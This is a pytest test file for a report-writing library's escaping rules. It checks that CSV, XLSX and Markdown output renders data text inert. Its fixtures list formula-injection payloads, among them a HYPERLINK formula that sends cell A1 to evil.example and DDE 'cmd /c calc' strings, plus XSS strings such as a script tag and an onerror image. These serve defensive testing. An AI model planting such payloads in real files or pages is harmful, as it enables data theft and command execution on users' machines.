"""Text from data is inert in what zhili writes: the cell-level rules
(`zhili.engine.report.safe`), each checked by reading the written file back."""

from __future__ import annotations

import re
import zipfile

import polars as pl
import pytest
from openpyxl import Workbook, load_workbook

from zhili.engine.report import safe

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    '=cmd|"/c calc"!A1',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_that_would_run_get_a_quote(text):
    assert safe.csv_text(text) == "'" + text


@pytest.mark.parametrize("text", ["长青社区", "1+1", "a=b", " =x", "", "'=already"])
def test_other_csv_cells_are_left_alone(text):
    assert safe.csv_text(text) == text


def test_a_frame_keeps_its_numbers_and_neutralises_its_text(tmp_path):
    frame = pl.DataFrame({"name": [*HOSTILE, "长青社区"], "total": [-5.0] * 8, "n": [-1] * 8})
    out = safe.csv_frame(frame)
    assert out.get_column("total").to_list() == [-5.0] * 8
    assert out.get_column("n").dtype == pl.Int64
    path = tmp_path / "x.csv"
    out.write_csv(path)
    back = pl.read_csv(path, infer_schema=False)
    for cell in back.get_column("name").to_list():
        assert not cell.startswith(safe.FORMULA_START)
    assert back.get_column("name").to_list()[-1] == "长青社区"
    assert back.get_column("total").to_list() == ["-5.0"] * 8


def test_xlsx_text_is_a_string_cell_never_a_formula(tmp_path):
    wb = Workbook()
    ws = wb.active
    safe.append_row(ws, ["名称", "得分"])
    for text in HOSTILE:
        safe.append_row(ws, [text, 1.5])
    safe.set_cell(ws.cell(row=20, column=1), "=1+1")
    path = tmp_path / "x.xlsx"
    wb.save(path)
    with zipfile.ZipFile(path) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    back = load_workbook(path).active
    for i, text in enumerate(HOSTILE, start=2):
        assert back.cell(row=i, column=1).data_type == "s"
        # XML reads a CR back as LF; the text is otherwise as written
        assert back.cell(row=i, column=1).value == text.replace("\r", "\n")
        assert back.cell(row=i, column=2).value == 1.5
    assert back.cell(row=20, column=1).value == "=1+1"


def test_xlsx_text_drops_control_characters_and_respects_the_cell_limit(tmp_path):
    wb = Workbook()
    safe.append_row(wb.active, ["a\x1b[31mred\x00\x07", "x" * 40_000])
    path = tmp_path / "x.xlsx"
    wb.save(path)  # openpyxl refuses illegal characters: saving at all is the test
    back = load_workbook(path).active
    assert back["A1"].value == "a[31mred"
    assert len(back["B1"].value) == safe.XLSX_MAX_CHARS


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "[点我](javascript:alert(1))",
        "![x](http://evil.example/t.png)",
        "<img src=x onerror=alert(1)>",
        "a | b",
        "**粗体** _斜体_ `代码`",
    ],
)
def test_markdown_text_cannot_become_html_a_link_or_a_column(text):
    out = safe.md_text(text)
    assert "<" not in out and ">" not in out
    # every character with markdown meaning is backslash-escaped
    assert not re.search(r"(?<!\\)[\[\]|*_`]", out), out


def test_markdown_text_keeps_plain_words():
    assert safe.md_text("长青社区 2024年") == "长青社区 2024年"
